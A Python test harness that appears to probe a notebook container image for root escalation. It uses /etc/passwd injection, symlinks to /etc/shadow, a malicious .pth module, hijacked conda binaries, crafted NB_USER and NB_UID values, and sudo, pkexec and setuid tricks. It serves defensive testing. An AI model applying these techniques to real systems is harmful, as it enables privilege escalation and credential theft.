#!/usr/bin/python3
"""ways-to-root.py IMAGE ENGINE [OPTION...]: tries to become root as a notebook's user, or to have root do a user's work.

A user prepares something in a home, a volume, /opt/conda or with group 0; then what an engine or an admin does as root happens: the
start or restart of the container, the health check, `exec` of a tool of the image. One line a way: what happened when it led
to root, or "no". Status 1 when one did. Needs the engine only; removes what it made. Options are for each `run`.
"""
import base64
import json
import os
import resource
import subprocess
import sys
import tempfile
import time
import uuid
from concurrent.futures import ThreadPoolExecutor

IMAGE, ENGINE, OPTIONS = sys.argv[1], sys.argv[2], sys.argv[3:]
if os.path.basename(ENGINE) == "podman":
    # It asks for more than a root whose own limits are lower can give.
    for kind, number in (("nofile", resource.RLIMIT_NOFILE), ("nproc", resource.RLIMIT_NPROC)):
        limit = resource.getrlimit(number)[1]
        limit = 8192 if limit == resource.RLIM_INFINITY else min(limit, 8192)
        OPTIONS += ["--ulimit", f"{kind}={limit}:{limit}"]
NAME = "ways-" + uuid.uuid4().hex[:10]
LIMIT_SECONDS = 120
# Whoever runs it leaves the uid that ran it; "0" is the way.
PAYLOAD = "#!/bin/sh\n/usr/bin/id -u >>/tmp/uids\nexec /usr/bin/true\n"
HOME = "/home/jovyan"


def engine(*arguments, text=None):
    """Runs the engine; (status, what it said)."""
    try:
        done = subprocess.run([ENGINE, *arguments], input=text, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=LIMIT_SECONDS, text=True, errors="replace", check=False)
        return done.returncode, done.stdout
    except subprocess.TimeoutExpired:
        return None, f"no end within {LIMIT_SECONDS} s"


class Container:
    """A container that was started with options, with the payload in it."""

    def __init__(self, *options, command=()):
        self.name = f"{NAME}-{uuid.uuid4().hex[:8]}"
        status, said = engine("run", "--detach", "--name", self.name, *OPTIONS, *options, IMAGE, *command)
        if status != 0:
            raise RuntimeError(said)
        self.as_root("umask 0; printf '%s' \"$1\" >/tmp/payload; chmod 755 /tmp/payload; : >/tmp/uids; chmod 666 /tmp/uids", PAYLOAD)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        engine("rm", "--force", "--volumes", self.name)

    def run(self, user, *command):
        return engine("exec", "--user", user, self.name, *command)

    def as_root(self, script, *arguments):
        """A preparation that is no part of the attack: with nothing of the image's but a shell."""
        return engine("exec", "--user", "0", "--env", "PATH=/usr/sbin:/usr/bin:/sbin:/bin", self.name, "/bin/sh", "-c", script, "sh", *arguments)

    def as_user(self, user, script):
        """What the user prepares; it has to work, or nothing is tried."""
        status, said = self.run(user, "/bin/sh", "-c", script)
        if status != 0:
            raise RuntimeError(f"the preparation failed: {said}")

    def wait(self, script, seconds=90):
        """Until a script of root's succeeds."""
        end = time.monotonic() + seconds
        while self.as_root(script)[0] != 0:
            if time.monotonic() > end:
                raise RuntimeError(f"no end of waiting for {script}: {engine('logs', self.name)[1][-2000:]}")
            time.sleep(0.3)
        return self

    def ready(self):
        """The command is the user's now."""
        return self.wait("pgrep -f [/]usr/local/bin/htcnotebook-run")

    def restart(self):
        engine("restart", "--time", "1", self.name)
        # Some do not come back, which is no way either.
        time.sleep(1)
        try:
            return self.wait("pgrep -f [/]usr/local/bin/htcnotebook-run", 20)
        except RuntimeError:
            return self

    def rooted(self):
        """Whether the payload ran as root."""
        # The container may have ended.
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "uids")
            status, said = engine("cp", f"{self.name}:/tmp/uids", path)
            if status != 0:
                raise RuntimeError(said)
            with open(path, encoding="ascii") as file:
                return "the payload ran as root" if "0" in file.read().split() else None

    def owner(self, path):
        _, said = self.as_root("stat -c %u:%a -- \"$1\"", path)
        return None if said.startswith("0:") else f"{path} belongs to {said.strip()}"


def root_started(*options, command=()):
    """As hubs with the homes of a host do it, or NB_USER by hand; the user has a name and the uid 1000."""
    return Container("--user", "root", *options, command=command)


def pool_configuration():
    with root_started() as box:
        box.wait("[ -e /home/jovyan/.condor/htcnotebook/limits.conf ]")
        box.as_user("1000", f"echo 'include command : /tmp/payload' >>{HOME}/.condor/htcnotebook/limits.conf; mkdir -p {HOME}/.condor; echo 'include command : /tmp/payload' >{HOME}/.condor/user_config")
        for command in (["htc-pool", "logs"], ["htc-pool", "status"], ["condor_q"], ["condor_status"], ["htc-pool", "check"],
                        ["/usr/bin/python3", "-I", "-c", "import htcondor2"], ["env", f"HTCNOTEBOOK_HOME={HOME}", "condor_q"]):
            box.run("0", *command)
        return box.rooted()


def account_of_group_0():
    with Container("--user", "12345:0") as box:
        box.ready()
        box.as_user("12345:0", "echo 'toor::0:0::/:/bin/sh' >>/etc/passwd")
        box.run("12345:0", "/bin/su", "toor", "-c", "/tmp/payload")
        return box.rooted()


def name_of_root():
    # A hash of "x" (crypt(3), SHA-512).
    with Container("--user", "12345:0") as box:
        box.ready()
        box.as_user("12345:0", "hash=$(openssl passwd -6 x) && printf 'root:%s:12345:0::/tmp:/bin/sh\\n%s\\n' \"$hash\" \"$(cat /etc/passwd)\" >/tmp/passwd && cat /tmp/passwd >/etc/passwd")
        box.run("12345:0", "/bin/sh", "-c", "echo x | sudo -S -u '#0' /tmp/payload; sudo -n /tmp/payload; printf 'x\\ny\\ny\\n' | passwd; echo x | su root -c /tmp/payload")
        return box.rooted()


def group_of_shadow():
    with Container("--user", "12345:0") as box:
        box.ready()
        box.as_user("12345:0", "printf '%s\\nother:x:12345:42::/tmp:/bin/sh\\n' \"$(grep -v ':12345:' /etc/passwd)\" >/tmp/passwd && cat /tmp/passwd >/etc/passwd")
        status, said = box.run("12345:0", "/bin/sh", "-c", "echo 'exec cat /etc/shadow' | newgrp")
        return "newgrp gives any group" if "root:" in said else None


def given_away_by_the_start():
    box = root_started("--env", "NB_USER=alice", "--env", "CHOWN_HOME=yes", "--env", "CHOWN_HOME_OPTS=-R", "--entrypoint", "/bin/sh",
                       command=["-c", f"until [ -e /tmp/go ]; do sleep 0.1; done; exec /usr/local/bin/start.sh start-notebook.py"])
    with box:
        # A volume, as the user left it.
        box.as_root(f"rm -rf {HOME}/work && ln -s /etc {HOME}/work && ln -s /etc/shadow {HOME}/x && chown -h 1000:100 {HOME}/work {HOME}/x && touch /tmp/go")
        box.ready()
        return box.owner("/etc") or box.owner("/etc/shadow")


def given_away_by_chown_extra():
    with root_started("--env", f"CHOWN_EXTRA={HOME}/work") as box:
        box.ready()
        box.as_user("1000", f"rmdir {HOME}/work; ln -s /etc {HOME}/work")
        box.restart()
        return box.owner("/etc") or box.owner("/etc/shadow")


def links_for_tokens():
    token = ".".join(base64.urlsafe_b64encode(json.dumps(part).encode()).decode().rstrip("=") for part in ({"kid": "POOL"}, {"iss": "example.org", "sub": "alice@example.org"}, "x"))
    with root_started("--env", "_condor_SCHEDD_HOST=ap.example.org", "--env", f"HTCONDOR_TOKEN={token}") as box:
        box.ready()
        box.as_root("mkdir /srv/roots && chmod 755 /srv/roots")
        box.as_user("1000", f"mkdir -p {HOME}/.condor && rm -rf {HOME}/.condor/tokens.d && ln -s /srv/roots {HOME}/.condor/tokens.d")
        box.run("0", "htc-pool", "restart", "--timeout", "0")
        _, said = box.as_root("stat -c %a /srv/roots; ls -A /srv/roots")
        return None if said == "755\n" else f"root's folder was changed: {said!r}"


def health_of_a_file():
    with root_started(command=["sleep", "600"]) as box:
        box.ready()
        folder = f"{HOME}/.local/share/jupyter/runtime"
        box.as_user("1000", f"""mkdir -p {folder}; cd {folder}
            echo '{{"url": "file:///etc/shadow#", "pid": 1, "port": 80}}' >jpserver-1.json; touch -d +1hour jpserver-1.json; ln -s /etc/shadow jpserver-2.json; mkfifo jpserver-3.json""")
        said = box.run("0", "timeout", "20", "/usr/local/bin/htcnotebook-healthcheck")
        return "it shows /etc/shadow" if "root:" in said[1] else "it waits for ever" if said[0] == 124 else None


def health_of_another_host():
    with root_started(command=["sleep", "600"]) as box:
        box.ready()
        folder = f"{HOME}/.local/share/jupyter/runtime"
        box.as_user("1000", f"""mkdir -p {folder}; printf 'secret' >/tmp/api; cd /tmp; setsid python -m http.server --bind 127.0.0.1 8765 >/dev/null 2>&1 &
            for i in $(seq 100); do python -c 'import socket; socket.create_connection(("127.0.0.1", 8765))' 2>/dev/null && break; sleep 0.1; done
            echo '{{"url": "http://127.0.0.1:8765/", "pid": 1, "port": 8765}}' >{folder}/jpserver-1.json""")
        _, said = box.run("0", "/usr/local/bin/htcnotebook-healthcheck")
        return "it asks what a record of no Jupyter names" if "secret" in said or "answers on" in said else None


def programs_of_the_user():
    with root_started() as box:
        box.ready()
        names = "usermod useradd userdel groupadd chown cp mkdir sed id getent rmdir ln cat head setpriv printf stat test env sh bash true rm tini start.sh run-hooks.sh htcnotebook-healthcheck htc-pool ps tail"
        box.as_user("1000", f"cd /opt/conda/bin; for name in {names}; do rm -f $name; ln -s /tmp/payload $name; done")
        box.restart()
        return box.rooted()


def python_of_the_user():
    with root_started() as box:
        box.ready()
        box.as_user("1000", "cd /opt/conda/bin; for name in python python3; do rm -f $name; ln -s /tmp/payload $name; done")
        box.run("0", "/usr/local/bin/htcnotebook-healthcheck")
        box.run("0", "/usr/local/bin/htc-pool", "status")
        box.restart()
        return box.rooted()


def modules_of_the_user():
    with root_started() as box:
        box.ready()
        box.as_user("1000", f"""for folder in /opt/conda/lib/python3*/site-packages {HOME}/.local/lib/python3.11/site-packages {HOME}/.local/lib/python3.13/site-packages; do
            mkdir -p $folder; echo 'import os; os.system("/tmp/payload")' >$folder/evil.pth; cp $folder/evil.pth $folder/usercustomize.py; cp $folder/evil.pth $folder/json.py; done
            cp $folder/json.py {HOME}/json.py; mkdir -p {HOME}/htcnotebook; cp $folder/json.py {HOME}/htcnotebook/__init__.py""")
        box.run("0", "/usr/local/bin/htcnotebook-healthcheck")
        box.run("0", "/usr/local/bin/htc-pool", "status")
        box.restart()
        return box.rooted()


def logs_that_are_links():
    with root_started() as box:
        box.wait("[ -e /home/jovyan/.condor/htcnotebook/log/SchedLog ]")
        box.as_user("1000", f"cd {HOME}/.condor/htcnotebook/log && rm -f NegotiatorLog && ln -s /etc/shadow NegotiatorLog")
        _, said = box.run("0", "htc-pool", "logs", "negotiator")
        return "htc-pool shows /etc/shadow" if "root:" in said else None


def hooks_of_the_user():
    with root_started() as box:
        box.ready()
        box.run("1000", "/bin/sh", "-c", "for folder in start-notebook.d before-notebook.d; do cp /tmp/payload /usr/local/bin/$folder/x.sh; done; cp /tmp/payload /usr/local/bin/start.sh; cp /tmp/payload /usr/local/lib/htcnotebook/log.sh")
        box.restart()
        return box.rooted()


def sudo_without_a_grant():
    with root_started("--env", "NB_USER=alice") as box:
        box.ready()
        for command in (["sudo", "-n", "/tmp/payload"], ["sudo", "-n", "-u", "#-1", "/tmp/payload"], ["pkexec", "/tmp/payload"]):
            box.run("1000", *command)
        return box.rooted()


def a_file_with_the_right_of_its_owner():
    box = root_started("--env", "NB_USER=alice", "--env", "NB_UID=1234", "--env", "CHOWN_HOME=yes", "--env", "CHOWN_HOME_OPTS=-R", "--entrypoint", "/bin/sh",
                       command=["-c", "until [ -e /tmp/go ]; do sleep 0.1; done; exec /usr/local/bin/start.sh start-notebook.py"])
    with box:
        box.as_root(f"cp /bin/sh {HOME}/sh && chown 1000:100 {HOME}/sh && chmod 6755 {HOME}/sh && touch /tmp/go")
        box.ready()
        _, said = box.as_root("find /home -user 0 -perm /6000 -type f")
        return f"of root: {said}" if said.strip() else None


def a_supervisor_of_the_user():
    with root_started(command=["sleep", "600"]) as box:
        box.ready()
        box.as_user("1000", f"""mkdir -p {HOME}/.condor/htcnotebook; echo 'include command : /tmp/payload' >>{HOME}/.condor/htcnotebook/limits.conf
            HOME=/root setsid sh -c 'exec -a "python3" sleep 600 2>/dev/null || exec sleep 600' /usr/local/bin/htcnotebook-run 0 >/dev/null 2>&1 &""")
        box.run("0", "htc-pool", "status")
        return box.rooted()


def ids_and_names_of_the_environment():
    tried = [{"NB_UID": "0"}, {"NB_UID": "00"}, {"NB_UID": "4294967296"}, {"NB_UID": "4294967295"}, {"NB_UID": "+0"}, {"NB_UID": " 0"}, {"NB_UID": "abc"},
             {"NB_USER": "root"}, {"NB_USER": "root", "NB_UID": "1000"}, {"NB_USER": "-o"}, {"NB_USER": "x:x:0:0"}, {"NB_USER": "../../root"}, {"NB_USER": "a\nx::0:0"}, {"NB_GROUP": "x:x:0:"}]
    for variables in tried:
        _, said = engine("run", "--rm", *OPTIONS, "--user", "root", *(f"--env={name}={value}" for name, value in variables.items()), IMAGE, "sh", "-c", "echo it is $(id -u) $(getent passwd | awk -F: '$3 == 0 { print $1 }')")
        if "it is " in said and not ("it is 0 root" not in said and said.split("it is ")[1].split()[1:2] == ["root"] and len(said.split("it is ")[1].split()) == 2):
            return f"{variables}: {said.strip().splitlines()[-1]}"
    return None


def main():
    """All of them, two at a time: one waits while the other works."""
    ways = [value for name, value in globals().items() if callable(value) and value.__module__ == __name__ and name not in ("engine", "Container", "root_started", "main")]
    status = 0

    def attempt(way):
        try:
            return way(), None
        except RuntimeError as problem:
            return None, str(problem)

    try:
        with ThreadPoolExecutor(2) as pool:
            for way, (led, problem) in zip(ways, pool.map(attempt, ways)):
                print(f"{way.__name__.replace('_', ' ')}: {f'not tried: {problem}' if problem else led or 'no'}", flush=True)
                status |= 1 if led or problem else 0
    finally:
        _, left = engine("ps", "--all", "--quiet", "--filter", f"name={NAME}")
        if left.split():
            engine("rm", "--force", "--volumes", *left.split())
    print(f"{len(ways)} ways tried")
    return status


if __name__ == "__main__":
    sys.exit(main())
